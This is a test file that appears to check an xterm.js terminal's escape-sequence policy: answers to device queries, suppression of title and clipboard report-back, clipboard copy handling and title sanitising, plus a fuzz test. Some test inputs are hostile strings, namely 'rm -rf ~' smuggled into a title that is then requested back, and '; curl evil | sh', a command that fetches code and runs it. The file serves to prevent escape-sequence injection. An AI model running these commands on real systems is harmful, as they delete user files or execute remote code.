// @vitest-environment jsdom
import { Terminal } from "@xterm/xterm";
import fc from "fast-check";
import { expect, onTestFinished, test, vi } from "vitest";
import { applyEscapePolicy } from "./escape-policy.ts";
import { guardParser } from "./parser-guard.ts";

vi.setConfig({ testTimeout: 120_000 });

// xterm asks for it as it is loaded, to know how it may draw. Nothing is drawn here.
vi.hoisted(() => {
  HTMLCanvasElement.prototype.getContext = () => null;
});

function start({ scrollback = 100 } = {}) {
  const terminal = new Terminal({ cols: 40, rows: 10, scrollback, allowProposedApi: true });
  onTestFinished(() => terminal.dispose());
  guardParser(terminal);
  const heard = { typed: [] as string[], replied: [] as string[], titled: [] as string[], copies: [] as string[] };
  applyEscapePolicy(terminal, {
    typed: (text) => heard.typed.push(text),
    replied: (text) => heard.replied.push(text),
    titled: (title) => heard.titled.push(title),
    copyRequested: (text) => heard.copies.push(text),
  });
  const write = (data: string | Uint8Array) => new Promise<void>((resolve) => terminal.write(data, resolve));
  return { terminal, heard, write };
}

const osc52 = (text: string, selection = "c") => `\x1b]52;${selection};${Buffer.from(text).toString("base64")}\x07`;

test.each([
  ["its kind", "\x1b[c", "\x1b[?1;2c"],
  ["its second kind", "\x1b[>c", "\x1b[>0;276;0c"],
  ["whether it is well", "\x1b[5n", "\x1b[0n"],
  ["the cursor's place", "ab\x1b[6n", "\x1b[1;3R"],
  ["a mode", "\x1b[?2004$p", "\x1b[?2004;2$y"],
  ["a setting", "\x1bP$qm\x1b\\", "\x1bP1$r0m\x1b\\"],
])("a program that asks for %s is answered", async (_, question, answer) => {
  const { heard, write } = start();
  await write(question);
  expect(heard.replied).toEqual([answer]);
  expect(heard.typed).toEqual([]);
});

test.each([
  ["the title back", "\x1b]2;rm -rf ~\x07\x1b[21t"],
  ["the window's size and place", "\x1b[14t\x1b[18t\x1b[13t\x1b[19t"],
  ["the clipboard", "\x1b]52;c;?\x07\x1b]52;p;?\x07"],
  ["an answerback", "\x05"],
  ["a setting that is none", "\x1bP$q\r\nrm -rf ~\r\x1b\\"],
])("a program that asks for %s hears nothing it has written", async (_, question) => {
  const { heard, write } = start();
  await write(question);
  expect(heard.replied.join("")).not.toMatch(/rm|\r|\n|t$/);
  expect(heard.typed).toEqual([]);
});

test("what is typed is no reply, also right after a question", async () => {
  const { terminal, heard, write } = start();
  await write("\x1b[c");
  terminal.input("typed");
  expect(heard).toMatchObject({ typed: ["typed"], replied: ["\x1b[?1;2c"] });
});

test("of a thousand questions at once a few are answered", async () => {
  const { heard, write } = start();
  await write("\x1b[6n".repeat(10_000));
  for (const reply of heard.replied) expect(reply.length).toBeLessThanOrEqual(2048);
});

test("text for the clipboard is passed on for the learner to decide", async () => {
  const { heard, write } = start();
  await write(osc52("über\nzwei") + osc52("primary", "p") + osc52("both", "pc") + osc52("none named", ""));
  expect(heard.copies).toEqual(["über\nzwei", "primary", "both", "none named"]);
});

test.each([
  ["a question", "\x1b]52;c;?\x07"],
  ["nothing", "\x1b]52;c;\x07"],
  ["what is not base64", "\x1b]52;c;***\x07"],
  ["what is no text", "\x1b]52;c;/////w==\x07"],
  ["no such place", "\x1b]52;x;YQ==\x07"],
  ["far too much", osc52("x".repeat(200_000))],
])("a copy of %s is ignored", async (_, sequence) => {
  const { heard, write } = start();
  await write(sequence);
  expect(heard.copies).toEqual([]);
});

test("a title is text: nothing in it hides, reorders or breaks it", async () => {
  const { heard, write } = start();
  await write("\x1b]0;plain\x07\x1b]2;a\u202eb\u200bc\u2066d   e\x07\x1b]1;icon\x07");
  await write(`\x1b]2;${"x".repeat(5_000)}\x07\x1b]2;\x07`);
  expect(heard.titled).toEqual(["plain", "abcd e", "x".repeat(80), ""]);
});

test("ED 1 in the last cell of a screen without scrollback erases everything, and the terminal lives", async () => {
  const { terminal, write } = start({ scrollback: 0 });
  await write("one\r\ntwo\x1b[10;40HX\x1b[10;40H\x1b[1J");
  await write("\x1b[Halive");
  const lines = Array.from({ length: 10 }, (_, row) => terminal.buffer.active.getLine(row)?.translateToString(true));
  expect(lines).toEqual(["alive", ...Array<string>(9).fill("")]);
});

/** Pieces of sequences that have to do with reports, titles and the clipboard, and of everything else. */
const piece = fc.oneof(
  {
    weight: 6,
    arbitrary: fc.constantFrom("\x1b[", "\x1b]", "\x1bP", "\x9b", "\x9d", "\x07", "\x1b\\", "\x18", "\x1b"),
  },
  {
    weight: 6,
    arbitrary: fc.constantFrom(
      ...[
        "c",
        "n",
        "t",
        "R",
        "p",
        "q",
        "$p",
        "$q",
        ">c",
        "?6n",
        "6n",
        "5n",
        "18t",
        "21t",
        "20t",
        "?1004h",
        "?1049h",
        "!p",
      ],
      ...["J", "1J", "?1J", "H", "99;99H", "52;c;", "52;c;?", "2;", "0;", "4;1;?", "10;?", "11;?", "8;;http://a.test"],
    ),
  },
  { weight: 2, arbitrary: fc.base64String({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 20 }) },
  { weight: 1, arbitrary: fc.constantFrom("rm -rf ~\r", "\r\n", "; curl evil | sh\n") },
);

// biome-ignore lint/suspicious/noControlCharactersInRegex: answers begin with ESC
const REPLIES = /^(\x1b[[\]P][\d;?>$":/a-frgbqmpcnRyIO ]*(\x1b\\)?)+$/;

test("whatever is written, answers are of the known few forms, titles are plain, and nothing counts as typed", async () => {
  const { heard, write, terminal } = start({ scrollback: 0 });
  const complaint = vi.spyOn(console, "error").mockImplementation(() => {});
  onTestFinished(() => complaint.mockRestore());
  await fc.assert(
    fc.asyncProperty(fc.array(piece, { maxLength: 40 }), async (pieces) => {
      await write(new TextEncoder().encode(pieces.join("")));
      for (const reply of heard.replied.splice(0)) expect(reply).toMatch(REPLIES);
      for (const title of heard.titled.splice(0)) {
        expect(title).not.toMatch(/[\p{Cc}\p{Cf}]/u);
        expect(title.length).toBeLessThanOrEqual(160);
      }
      expect(heard.typed).toEqual([]);
      await write("\x18\x1bcalive");
      expect(terminal.buffer.active.getLine(0)?.translateToString(true)).toBe("alive");
    }),
    { numRuns: 1_500 },
  );
});
